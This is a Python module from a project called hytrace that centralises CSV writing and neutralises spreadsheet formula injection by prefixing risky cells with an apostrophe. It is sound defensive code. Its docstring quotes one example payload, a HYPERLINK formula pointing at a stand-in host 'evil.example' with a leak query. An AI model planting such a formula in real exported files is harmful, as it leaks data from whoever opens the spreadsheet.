"""The one CSV writer: every CSV file hytrace makes is written here, so none can carry a formula.

A spreadsheet opening a CSV runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(and some take a leading tab or carriage return the same way): a lot code ``=1+1`` or an
organisation named ``=HYPERLINK("http://evil.example/?leak","click")`` would run in an inspector's
spreadsheet. Such text is written with a leading apostrophe, as OWASP recommends ("CSV Injection"),
so it shows as text. A plain number (``-5``, ``-0.25``, ``-3,5``) is no formula and stays as it is,
so negative quantities still sort and sum as numbers. Records end with CRLF (RFC 4180).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")  # a plain decimal (a comma as Vietnamese writes it)
LINE_END = "\r\n"

__all__ = ["FORMULA_STARTS", "line", "safe_cell", "text"]


def safe_cell(value: Any) -> Any:
    """The value as a CSV cell a spreadsheet shows as text: formula-like text gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)):  # bool is an int: written as the csv module writes it
        return value
    shown = value if isinstance(value, str) else str(value)
    if shown.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(shown):
        return "'" + shown
    return value


def line(values: Iterable[Any]) -> str:
    """One CSV record (CRLF-terminated), every cell made safe: for files streamed record by record."""
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator=LINE_END).writerow([safe_cell(v) for v in values])
    return buffer.getvalue()


def text(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> str:
    """A whole CSV file: one header record, then the rows, every cell made safe (None as empty)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=LINE_END)
    writer.writerow([safe_cell(v) for v in header])
    writer.writerows([safe_cell(v) for v in row] for row in rows)
    return buffer.getvalue()
